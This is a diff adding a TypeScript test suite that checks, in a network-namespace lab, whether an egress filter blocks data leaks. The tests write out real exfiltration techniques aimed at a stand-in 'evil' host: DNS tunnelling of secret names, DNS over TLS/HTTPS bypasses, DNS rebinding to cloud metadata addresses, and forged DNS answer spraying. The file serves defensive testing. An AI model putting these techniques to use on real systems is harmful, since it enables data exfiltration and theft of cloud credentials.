@@ -1,0 +1,343 @@
+import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { asked, type Lab, reached, WORLD } from '../e2e/lab.ts';
+import {
+  type Attempt,
+  attack,
+  attempts,
+  type Both,
+  denials,
+  has,
+  PYTHON,
+  PYTHON_EXE,
+  program,
+  startAttackLab,
+  unfiltered,
+} from './attack.ts';
+
+let lab: Lab;
+const started: ChildProcess[] = [];
+beforeAll(async () => {
+  lab = await startAttackLab();
+});
+afterAll(async () => {
+  for (const child of started) child.kill('SIGKILL');
+  await lab?.stop();
+});
+
+/** A program of ours in one of the namespaces, until the end of the tests. */
+async function serve(namespace: string, name: string, ...args: string[]): Promise<void> {
+  const child = spawn('ip', ['netns', 'exec', namespace, PYTHON, program(lab, name), ...args], { stdio: ['ignore', 'pipe', 'inherit'] });
+  started.push(child);
+  await new Promise<void>((ready, failed) => {
+    child.stdout.once('data', () => ready());
+    child.once('exit', (code) => failed(new Error(`${name} ended with ${code}`)));
+  });
+}
+
+/** As `curl` and whoever else was asked to look something up: no name of the attacker anywhere in the world. */
+const evil = (names: readonly string[]): string[] => names.filter((name) => name.includes('evil'));
+
+const curl = (...args: string[]): string[] => ['curl', '-sS', '--max-time', '5', ...args];
+const POLICY = 'ok.test\nhttp://ok.test/*';
+
+describe('queries made by hand', () => {
+  let both: Both;
+  let caught: Map<string, Attempt>;
+  beforeAll(async () => {
+    both = await attack(lab, [PYTHON, program(lab, 'queries.py'), WORLD.dns, WORLD.evil], { policy: POLICY });
+    caught = attempts(both.caught.stdout);
+  });
+
+  test('without the filter they reach the servers, with it no server sees a byte of them', () => {
+    expect(evil(asked(both.free)).length).toBeGreaterThanOrEqual(18);
+    expect(both.free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
+    expect(asked(both.caught)).toEqual(['ok.test']);
+    expect(reached(both.caught, WORLD.evil)).toEqual([]);
+    // What the proxy itself asks, built anew: one question of 36 bytes with an empty OPT record, however the client's looked.
+    for (const { dst, dport, data } of both.caught.packets) expect([dst, dport, data]).toEqual([WORLD.dns, 53, 36]);
+  });
+
+  const denied: [string, string[]][] = [
+    ['D1', ['tcp to the attacker', 'udp to the attacker']],
+    ['D3', ['labels, to the resolver', 'tcp, to the resolver', 'tcp, an allowed question first', 'tcp, byte by byte']],
+    ['D4', ['127.0.0.53', '127.0.0.54', '127.1.2.3 over tcp', '0.0.0.0', 'own address', 'mapped address']],
+    ['D5', ['type ANY', 'type TXT', 'type NULL', 'type AXFR', 'class CH']],
+    ['D6', ['junk first', 'allowed first, on the same socket']],
+  ];
+  for (const [row, ways] of denied) {
+    test.each(ways)(`${row}: %s`, (way) => {
+      const index = [...WAYS].indexOf(way);
+      const line = denials(both.caught).find(({ name }) => name?.endsWith(`way${index}.evil.test`));
+      expect(line).toMatchObject({ type: 'dns', exe: PYTHON_EXE, pid: caught.get(way)?.pid });
+    });
+  }
+
+  test.each([
+    'two questions',
+    'no question and the name behind it',
+    'trailing bytes',
+    'record in the query',
+    'name in the additional section',
+    'compressed name',
+    'pointer to itself',
+    'pointer into later bytes',
+    'empty name',
+    'dot inside a label',
+    'NUL inside a label',
+  ])('D5: %s is refused with FORMERR', (way) => expect(caught.get(way)?.got).toBe('rcode 1, 0 answers'));
+
+  test('D5: opcodes are not implemented, responses not answered, options not passed on', () => {
+    expect(caught.get('opcode UPDATE')?.got).toBe('rcode 4, 0 answers');
+    expect(caught.get('opcode NOTIFY')?.got).toBe('rcode 4, 0 answers');
+    expect(caught.get('a response')?.got).toContain('timed out');
+    expect(caught.get('EDNS option')?.got).toBe('rcode 0, 1 answers');
+  });
+
+  test('D5: malformed queries are in the log with their sender', () => {
+    const malformed = denials(both.caught).filter(({ reason }) => reason?.startsWith('malformed query'));
+    expect(malformed.length).toBeGreaterThanOrEqual(15);
+    for (const line of malformed) expect(line).toMatchObject({ type: 'dns', exe: PYTHON_EXE });
+  });
+
+  test.each([
+    ['port 5353', WORLD.evil, 5353],
+    ['multicast DNS', '224.0.0.251', 5353],
+    ['LLMNR', '224.0.0.252', 5355],
+    ['port 5353 of the resolver', WORLD.dns, 5353],
+    ['from port 53', WORLD.evil, 9999],
+  ])('D5: %s is UDP as any other', (way, address, port) => {
+    const there = ({ dst, dport }: { dst: string; dport?: number }): boolean => dst === address && dport === port;
+    expect(both.free.packets.filter(there)).not.toEqual([]);
+    expect(both.caught.packets.filter(there)).toEqual([]);
+    expect(denials(both.caught)).toContainEqual(
+      expect.objectContaining({ type: 'udp', dst_ip: address, dst_port: port, exe: PYTHON_EXE, pid: caught.get(way)?.pid }),
+    );
+  });
+
+  test('D6: one source port for an allowed server and for another', () => {
+    const way = 'same source port, two servers';
+    expect(both.free.seen).toContainEqual(expect.objectContaining({ name: `way${WAYS.size - 1}.evil.test`, address: WORLD.evil }));
+    expect(caught.get(way)?.got).toMatch(/^rcode [35]$/);
+  });
+});
+
+/** In the order of queries.py. */
+const WAYS = new Set(
+  [...readFileSync(`${import.meta.dirname}/fixtures/queries.py`, 'utf8').matchAll(/^ {4}"([^"]+)": lambda n/gm)].map(([, way = '']) => way),
+);
+
+describe('D1: real clients and servers of the attacker', () => {
+  test.each([
+    ['UDP', ['dig', '+time=1', '+tries=1', `@${WORLD.evil}`, 'd1udp.evil.test']],
+    ['TCP', ['dig', '+tcp', '+time=1', '+tries=1', `@${WORLD.evil}`, 'd1tcp.evil.test']],
+    ['an allowed name', ['dig', '+time=1', '+tries=1', `@${WORLD.evil}`, 'ok.test']],
+    ['getaddrinfo(3)', ['getent', 'ahosts', 'd1libc.evil.test']],
+  ])('%s', async (_what, argv) => {
+    const { free, caught } = await attack(lab, argv, { policy: POLICY });
+    expect(asked(free)).not.toEqual([]);
+    expect(asked(caught)).toEqual([]);
+    expect(reached(caught, WORLD.evil)).toEqual([]);
+    expect(denials(caught)[0]).toMatchObject({ type: 'dns', exe: `/usr/bin/${argv[0]}` });
+  });
+});
+
+describe('D2: encrypted DNS', () => {
+  const message = 'EjQBAAABAAAAAAAABnMzY3JldARldmlsBHRlc3QAAAEAAQ';
+  test.each([
+    [
+      'DNS over TLS at the attacker',
+      'ok.test',
+      ['openssl', 's_client', '-connect', `${WORLD.evil}:853`, '-servername', 'ok.test'],
+      WORLD.evil,
+    ],
+    [
+      'DNS over TLS at an allowed host',
+      'ok.test',
+      ['openssl', 's_client', '-connect', `${WORLD.ok}:853`, '-servername', 'ok.test'],
+      WORLD.ok,
+    ],
+    [
+      'DNS over HTTPS by an allowed name at an address of the attacker',
+      'ok.test',
+      curl('-k', '--resolve', `ok.test:443:${WORLD.evil}`, `https://ok.test/dns-query?dns=${message}`),
+      WORLD.evil,
+    ],
+    ['DNS over HTTPS at the attacker', 'ok.test', curl('-k', `https://${WORLD.evil}/dns-query?dns=${message}`), WORLD.evil],
+    [
+      'DNS over HTTPS at an allowed host, where only a path is allowed',
+      'https://ok.test/simple/*',
+      curl('-k', `https://ok.test/dns-query?dns=${message}`),
+      '',
+    ],
+  ])('%s', async (_what, policy, argv, address) => {
+    const { free, caught } = await attack(lab, argv, { policy });
+    expect(free.packets.filter(({ dst }) => dst === (address || WORLD.ok))).not.toEqual([]);
+    if (address) expect(reached(caught, address)).toEqual([]);
+    expect(caught.seen.filter(({ url }) => url?.includes('dns-query') && !argv.includes('--resolve'))).toEqual([]);
+    const lines = caught.log.filter(({ type }) => type !== 'dns' && type !== 'close');
+    expect(lines[0]).toMatchObject({ exe: `/usr/bin/${argv[0]}` });
+  });
+});
+
+describe('D4: asking somebody outside of the filter', () => {
+  const socket = '/run/avahi-daemon/socket';
+  const ask = (path: string): string[] => [
+    PYTHON,
+    '-c',
+    `import socket; s=socket.socket(socket.AF_UNIX); s.connect(${path.startsWith('@') ? `'\\0${path.slice(1)}'` : `'${path}'`}); s.sendall(b's3cret.evil.test'); print('answer', s.recv(99))`,
+  ];
+
+  test.skipIf(existsSync('/run/avahi-daemon'))('a resolver service on a socket below /run (skipped where avahi runs)', async () => {
+    mkdirSync('/run/avahi-daemon');
+    try {
+      await serve(lab.job, 'service.py', socket);
+      const { free, caught } = await attack(lab, ask(socket), { policy: POLICY });
+      expect(free.stdout).toContain('answer');
+      expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
+      expect(caught.stdout).not.toContain('answer');
+      expect(evil(asked(caught))).toEqual([]);
+    } finally {
+      rmSync('/run/avahi-daemon', { recursive: true, force: true });
+    }
+  });
+
+  const landlock = spawnSync(PYTHON, ['-c', 'import ctypes; exit(ctypes.CDLL(None).syscall(444, 0, 0, 1) < 6)']).status === 0;
+  test.skipIf(!landlock)(`an abstract socket${landlock ? '' : ' (skipped: this kernel has no Landlock scopes, ABI 6)'}`, async () => {
+    const name = `@egf-attack-${process.pid}`;
+    await serve(lab.job, 'service.py', name);
+    const { free, caught } = await attack(lab, ask(name), { policy: POLICY });
+    expect(evil(asked(free))).toEqual(['s3cret.evil.test']);
+    expect(caught.stderr).toContain('PermissionError');
+    expect(evil(asked(caught))).toEqual([]);
+  });
+
+  const resolved = has('resolvectl') && existsSync('/run/systemd/resolve/io.systemd.Resolve');
+  test.skipIf(!resolved)(`resolvectl${resolved ? '' : ' (skipped: systemd-resolved does not run on this machine)'}`, async () => {
+    const caught = await lab.run(['resolvectl', 'query', 's3cret.evil.test'], { policy: POLICY });
+    expect(caught.status).not.toBe(0);
+    expect(evil(asked(caught))).toEqual([]);
+  });
+});
+
+describe('D7: answers that lie', () => {
+  const hex = (ip: string): string =>
+    ip
+      .split('.')
+      .map((part) => Number(part).toString(16).padStart(2, '0'))
+      .join('');
+  const log = (): string => `${lab.directory}/changing.log`;
+  beforeAll(async () => {
+    spawnSync('ip', ['-n', lab.world, 'addr', 'add', '203.0.113.54/32', 'dev', 'lo']);
+    writeFileSync(log(), '');
+    await serve(lab.world, 'changing-dns.py', '203.0.113.54', log());
+  });
+
+  /** With the changing server as the machine's resolver. */
+  async function withChangingDns(labels: string, policy: string): Promise<Both> {
+    const path = `/etc/netns/${lab.job}/resolv.conf`;
+    const saved = readFileSync(path);
+    writeFileSync(path, 'nameserver 203.0.113.54\noptions timeout:1 attempts:1\n');
+    const script = `import socket, sys
+# The server counts by name: each process has one of its own.
+name = '${labels}.' + str(__import__('os').getpid()) + '.rebind.test'
+for i in range(4):
+    try:
+        a = socket.gethostbyname(name); print('address', a)
+        s = socket.create_connection((a, 80), 2); s.sendall(f'GET /s3cret HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n'.encode()); print(s.recv(300)[:12])
+    except OSError as e: print(e)`;
+    try {
+      return await attack(lab, [PYTHON, '-c', script], { policy });
+    } finally {
+      writeFileSync(path, saved);
+    }
+  }
+
+  test.each([
+    ['the metadata service', '169.254.169.254'],
+    ['a link-local address', '169.254.1.1'],
+    ["Azure's wireserver", '168.63.129.16'],
+  ])('rebinding with TTL 0 to %s', async (_what, target) => {
+    const labels = `${hex(WORLD.ok)}-${hex(target)}`;
+    const { free, caught } = await withChangingDns(labels, 'http://*.rebind.test/*\n*.rebind.test:*');
+    expect(free.packets.filter(({ dst }) => dst === target)).not.toEqual([]);
+    expect(caught.stdout).toContain(`address ${WORLD.ok}`);
+    expect(caught.stdout).not.toContain(`address ${target}`);
+    expect(reached(caught, target)).toEqual([]);
+    expect(caught.log).toContainEqual(expect.objectContaining({ type: 'dns', name: expect.stringContaining(labels), exe: PYTHON_EXE }));
+  });
+
+  test.each([
+    ['metadata.test', '169.254.169.254'],
+    ['local.test', '127.0.0.1'],
+  ])('%s, allowed, answers %s: the answer is dropped, whoever connects there is refused', async (name, address) => {
+    const policy = `${name}:*\nhttp://${name}/*`;
+    const free = unfiltered(lab, ['getent', 'ahostsv4', name]);
+    expect(free.stdout).toContain(address);
+    const caught = await lab.run(
+      ['bash', '-c', `getent ahostsv4 ${name}; curl -sS --max-time 3 --resolve ${name}:80:169.254.169.254 http://${name}/`],
+      {
+        policy,
+      },
+    );
+    expect(caught.stdout).not.toMatch(/^(169|127)\./m);
+    expect(reached(caught, '169.254.169.254')).toEqual([]);
+    expect(
+      caught.log.some(({ type, exe, error, policy }) => type !== 'dns' && exe === '/usr/bin/curl' && (error || policy === 'deny')),
+    ).toBe(true);
+  });
+
+  test('a name of our own machine in the file of hosts, or chosen by the client, binds nothing', async () => {
+    const { free, caught } = await attack(lab, curl('--resolve', `ok.test:9999:${WORLD.evil}`, 'telnet://ok.test:9999'), {
+      policy: 'ok.test:9999',
+    });
+    expect(free.packets.filter(({ dst }) => dst === WORLD.evil)).not.toEqual([]);
+    expect(reached(caught, WORLD.evil)).toEqual([]);
+    expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: '/usr/bin/curl' }));
+  });
+
+  test('an alias of an allowed name is a name of its own, and the allowed name opens nothing for it', async () => {
+    const { free, caught } = await attack(lab, curl('-k', 'https://alias.test/'), { policy: POLICY });
+    expect(asked(free)).toContain('alias.test');
+    expect(asked(caught)).toEqual([]);
+    expect(reached(caught, WORLD.ok)).toEqual([]);
+    expect(denials(caught)[0]).toMatchObject({ type: 'dns', name: 'alias.test', exe: '/usr/bin/curl' });
+  });
+
+  test('a learned address does not outgrow the name: another name at the same address', async () => {
+    const script = `getent hosts ok.test; curl -skS --max-time 3 --resolve evil.test:443:${WORLD.ok} https://evil.test/`;
+    const { free, caught } = await attack(lab, ['bash', '-c', script], { policy: POLICY });
+    expect(free.stdout).toContain('hello from evil.test');
+    expect(reached(caught, WORLD.ok)).toEqual([]);
+    expect(denials(caught)).toContainEqual(expect.objectContaining({ host: 'evil.test', exe: '/usr/bin/curl' }));
+  });
+
+  test('D8: answers that nobody asked for teach nothing', async () => {
+    const forged = Buffer.from(
+      '12348180000100010000000002' +
+        Buffer.from('ok').toString('hex') +
+        '04' +
+        Buffer.from('test').toString('hex') +
+        '0000010001c00c00010001000002580004' +
+        hex(WORLD.evil),
+      'hex',
+    );
+    const spray = `import socket
+for source in ('${WORLD.dns}', '${WORLD.evil}'):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind((source, 5300))
+    for port in range(30000, 61000, 3): s.sendto(bytes.fromhex('${forged.toString('hex')}'), ('10.77.0.2', port))`;
+    const inside = `import socket, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('0.0.0.0', 30000)); s.settimeout(4); s.recv(512)
+time.sleep(0.3); f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); f.sendto(bytes.fromhex('${forged.toString('hex')}'), ('127.0.0.53', 53))
+c = socket.create_connection(('${WORLD.evil}', 9999), 2); c.sendall(b's3cret'); print(c.recv(9))`;
+    const running = lab.run([PYTHON, '-c', inside], { policy: 'ok.test:9999\nok.test' });
+    const timer = setInterval(() => spawnSync('ip', ['netns', 'exec', lab.world, PYTHON, '-c', spray]), 400);
+    const caught = await running.finally(() => clearInterval(timer));
+    expect(caught.stderr).toContain('ConnectionResetError');
+    // The kernel of the job answers a datagram for a closed port by itself (ICMP), with nothing of the job's in it.
+    expect(caught.packets.filter(({ dst, proto }) => dst === WORLD.evil && proto !== 1)).toEqual([]);
+    expect(denials(caught)).toContainEqual(expect.objectContaining({ dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE }));
+    expect(caught.log.every(({ dst_names }) => !dst_names?.includes('ok.test'))).toBe(true);
+  });
+});
